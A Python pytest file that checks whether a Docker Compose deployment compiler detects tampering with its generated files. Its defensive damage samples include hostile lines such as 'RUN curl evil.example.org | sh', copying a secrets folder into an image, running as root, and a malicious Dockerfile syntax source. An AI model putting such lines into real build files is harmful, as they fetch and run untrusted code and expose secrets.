"""Every damage to the golden files is noticed."""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from typing import Any

import pytest

from lego_compile.emit import yaml
from lego_compile.hashing import sha256
from lego_compile.targets.compose import TARGET
from lego_compile.targets.compose.files import CONFIG_LABEL, EDGE_READS, HUB_READS, config_digest
from tests.strategies import example
from tests.targets.compose.samples import MOUNTS, compiled, mounted, oauth_options, projected
from tests.targets.damages import CHANGES, damaged, places
from tests.thorough import first_fast

CHOSEN = oauth_options(groups_claim="groups")
DEPLOYMENT = projected(example())


class Golden:
    """What is damaged: the files of one way to mount bricks.

    Attributes:
        deployment: that went in.
        options: likewise.
        files: that came out.
        trees: the same as data, by file; labels of files are not filled in.
    """

    def __init__(self, mounts: str, engine: str = "docker") -> None:
        self.deployment, self.options = mounted(DEPLOYMENT, CHOSEN, mounts, engine)
        self.files = compiled(self.deployment, self.options)
        trees = TARGET.lower(self.deployment, self.options)
        self.trees = {name: tree for name, tree in trees.items() if not isinstance(tree, str)}

    def noticed(self, files: dict[str, bytes]) -> bool:
        """Whether reading the files back gives something else than went in."""
        lifted = TARGET.lift(files)
        return (
            bool(lifted.complaints) or lifted.deployment != self.deployment or lifted.options != self.options
        )

    def with_tree(self, file: str, tree: Any) -> dict[str, bytes]:
        """The files with another tree in one of them, and labels that agree with it, as a forger would."""
        files = {**self.files, file: WRITERS[file](tree).encode()}
        compose = copy.deepcopy(tree if file == "compose.yaml" else self.trees["compose.yaml"])
        for service, names in (("edge", EDGE_READS), ("hub", HUB_READS)):
            node: Any = compose
            for key in ("services", service, "labels"):
                node = node.get(key) if isinstance(node, dict) else None
            if node == {}:
                node[CONFIG_LABEL] = config_digest(files, names)
        return {**files, "compose.yaml": yaml.dump(compose).encode()}


WRITERS: dict[str, Callable[[Any], str]] = {
    "composition.json": json.dumps, "compose.yaml": yaml.dump, "compose.lab.yaml": yaml.dump,
}  # fmt: skip
GOLDENS = {**{mounts: Golden(mounts) for mounts in MOUNTS}, "podman": Golden("image", "podman")}
GOLDEN, TREES = GOLDENS["image"].files, GOLDENS["image"].trees
noticed, with_tree = GOLDENS["image"].noticed, GOLDENS["image"].with_tree


@pytest.mark.parametrize("change", first_fast(CHANGES.values()), ids=CHANGES)
@pytest.mark.parametrize("file", TREES)
@pytest.mark.parametrize("mounts", first_fast(GOLDENS))
def test_every_node_matters(mounts: str, file: str, change: Callable[[Any, Any], None]) -> None:
    """To change, drop or empty any node of a file is noticed, even when the labels agree with it."""
    golden = GOLDENS[mounts]
    tree = golden.trees.get(file, {})
    passed_over = {("services", "edge", "labels"), ("services", "hub", "labels")}
    if mounts != "image":  # what is as with image mounts is damaged there
        passed_over |= {at for at in places(tree) if _at(TREES[file], at) == _at(tree, at)}
    survivors = [
        at
        for at in places(tree)
        if at not in passed_over and not golden.noticed(golden.with_tree(file, damaged(tree, at, change)))
    ]
    assert survivors == []


def _at(node: Any, at: tuple[Any, ...]) -> Any:
    """What is at a place; the place itself where there is none."""
    for key in at:
        inside = key in node if isinstance(node, dict) else isinstance(node, list) and key < len(node)
        if not inside:
            return at
        node = node[key]
    return node


def test_the_undamaged_is_silent() -> None:
    """Without damage nothing is noticed, so the tests of this file can fail."""
    for golden in GOLDENS.values():
        assert not golden.noticed(golden.files)
        for file, tree in golden.trees.items():
            assert not golden.noticed(golden.with_tree(file, tree))


def _in_composition(change: Callable[[Any], None]) -> dict[str, bytes]:
    tree = copy.deepcopy(TREES["composition.json"])
    change(tree["profiles"][0])
    return with_tree("composition.json", tree)


def _swap(profile: Any) -> None:
    first, second = profile["bricks"]
    first["prefix"], second["prefix"] = second["prefix"], first["prefix"]


def _offer_fixed(profile: Any) -> None:
    profile["offers"].append(profile["bricks"].pop())


def _other_first(profile: Any) -> None:
    profile["offers"][:2] = reversed(profile["offers"][:2])


def _swap_keys(profile: Any) -> None:
    first, second = profile["offers"][:2]
    first["choice"], second["choice"] = second["choice"], first["choice"]


def _no_choice(profile: Any) -> None:
    for release in profile["offers"]:
        release.pop("choice", None)
        release.pop("release", None)


DAMAGES: dict[str, dict[str, bytes]] = {
    "a mount dropped": _in_composition(lambda profile: profile["bricks"].pop()),
    "paths swapped": _in_composition(_swap),
    "another release first": _in_composition(_other_first),
    "keys of releases swapped": _in_composition(_swap_keys),
    "releases without keys": _in_composition(_no_choice),
    "no retired keys": _in_composition(lambda profile: profile.pop("retired")),
    "a key retired for another brick": _in_composition(
        lambda profile: profile["retired"].update(notebook=profile["retired"].pop("ml"))
    ),
    "a fixed brick offered": _in_composition(_offer_fixed),
    "a writable directory": _in_composition(lambda profile: profile["data"][0].update(writable=True)),
    "another directory of the host": _in_composition(
        lambda profile: profile["data"].append({"name": "x", "path": "/x", "source": "/", "writable": True})
    ),
    "an injected variable": _in_composition(lambda profile: profile["environment"].update(PYTHONPATH="/x")),
    "a lost argument": _in_composition(lambda profile: profile["command"].pop()),
    "a container of root": _in_composition(lambda profile: profile.update(uid=0)),
    "two files of one key": {
        **GOLDEN, "composition.json": GOLDEN["composition.json"].replace(b"{", b'{"host": "evil.example.org",', 1)
    },
    "a changed file that its label does not know": {
        **GOLDEN, "composition.json": GOLDEN["composition.json"].replace(b"  ", b" ")
    },
    "a volume of the hub": {
        **GOLDEN, "compose.yaml": GOLDEN["compose.yaml"].replace(
            b"        source: hub-data\n", b"        source: hub-data\n        read_only: true\n")
    },
    "an open port": {
        **GOLDEN, "compose.yaml": GOLDEN["compose.yaml"].replace(b'"443"', b'"8443"', 1)
    },
    "an expanded variable": {
        **GOLDEN, "compose.yaml": GOLDEN["compose.yaml"].replace(b"vre.grenoble.example.org", b"${HOST}", 1)
    },
    "the guard weakened": {
        **GOLDEN, "guard.sh": GOLDEN["guard.sh"].replace(b"exit 78", b":")
    },
    "containers kept": {
        **GOLDEN, "jupyterhub_config.py": GOLDEN["jupyterhub_config.py"].replace(b"remove = True", b"remove = False")
    },
    "another Caddyfile": {**GOLDEN, "Caddyfile": GOLDEN["Caddyfile"] + b"\n"},
    "a file more": {**GOLDEN, "compose.override.yaml": b"services: {}\n"},
    **{f"no {name}": {path: data for path, data in GOLDEN.items() if path != name} for name in GOLDEN},
}  # fmt: skip


OCEAN = "baked/ocean/Containerfile"


def _called_after(data: bytes) -> dict[str, bytes]:
    """Another Containerfile, with its sum in every place that has it, as a forger would."""
    golden = GOLDENS["baked"]
    old, new = (sha256(each)[:12].encode() for each in (golden.files[OCEAN], data))
    files = {name: each.replace(old, new) for name, each in golden.files.items()}
    files[OCEAN] = data
    old, new = (config_digest(each, HUB_READS).encode() for each in (golden.files, files))
    plain = files["compose.yaml"].replace(b'"%s"' % old, old)  # one may look like a number, and the other not
    return {**files, "compose.yaml": plain.replace(old, b'"%s"' % new)}


def _lines(change: Callable[[list[bytes]], None]) -> bytes:
    lines = GOLDENS["baked"].files[OCEAN].split(b"\n")
    change(lines)
    return b"\n".join(lines)


BAKED: dict[str, bytes] = {
    "a brick less": _lines(lambda lines: lines.pop(2)),
    "a brick twice": _lines(lambda lines: lines.insert(2, lines[2])),
    "a program that runs": _lines(lambda lines: lines.insert(3, b"RUN curl evil.example.org | sh")),
    "another user": _lines(lambda lines: lines.insert(3, b"USER root")),
    "a file of the folder": _lines(lambda lines: lines.insert(3, b"COPY ../../secrets /secrets/")),
    "a tag instead of a digest": _lines(lambda lines: lines.__setitem__(1, lines[1].partition(b"@")[0])),
    "another digest": _lines(lambda lines: lines.__setitem__(2, lines[2].replace(b"@sha256:", b"@sha256:0")[:-1])),
    "another prefix": _lines(lambda lines: lines.__setitem__(2, lines[2].replace(b" /opt/bricks/", b" /opt/other/"))),
    "a part of the brick": _lines(lambda lines: lines.__setitem__(2, lines[2].replace(b" / ", b" /lib/ "))),
    "another reader of the file": _lines(lambda lines: lines.insert(0, b"# syntax=evil.example.org/dockerfile")),
    "another end of a line": _lines(lambda lines: lines.insert(0, b"# escape=`")),
    "nothing": b"",
}  # fmt: skip


@pytest.mark.parametrize("name", BAKED)
def test_damages_of_a_containerfile(name: str) -> None:
    """What else could be in an image is noticed, be it called after its file or not."""
    golden = GOLDENS["baked"]
    assert golden.noticed({**golden.files, OCEAN: BAKED[name]})
    assert golden.noticed(_called_after(BAKED[name]))


def test_a_comment_needs_another_name() -> None:
    """Even a comment makes it another file, and only a forger's names agree with it."""
    golden, data = GOLDENS["baked"], GOLDENS["baked"].files[OCEAN] + b"# a remark\n"
    assert golden.noticed({**golden.files, OCEAN: data})
    assert not golden.noticed(_called_after(data))


@pytest.mark.parametrize("mounts", GOLDENS)
def test_files_of_every_way_to_mount(mounts: str) -> None:
    """A file less, a file that is another one, and a file of another way are noticed."""
    golden = GOLDENS[mounts]
    for name, data in golden.files.items():
        assert golden.noticed({path: each for path, each in golden.files.items() if path != name}), name
        assert golden.noticed({**golden.files, name: data + b"x"}), name
    for other in GOLDENS.values():
        for name in other.files.keys() - golden.files.keys():
            assert golden.noticed({**golden.files, name: other.files[name]}), name


@pytest.mark.parametrize("name", DAMAGES)
def test_known_damages(name: str) -> None:
    """What people, merges and attackers do to such files is noticed."""
    assert DAMAGES[name] != GOLDEN
    assert noticed(DAMAGES[name])


def test_a_weakened_guard_is_no_guard() -> None:
    """When the fixed file is changed, no brick counts as guarded any more."""
    lifted = TARGET.lift(DAMAGES["the guard weakened"])
    assert lifted.deployment is not None
    assert {False} == {brick.guarded for profile in lifted.deployment.profiles for brick in profile.bricks}
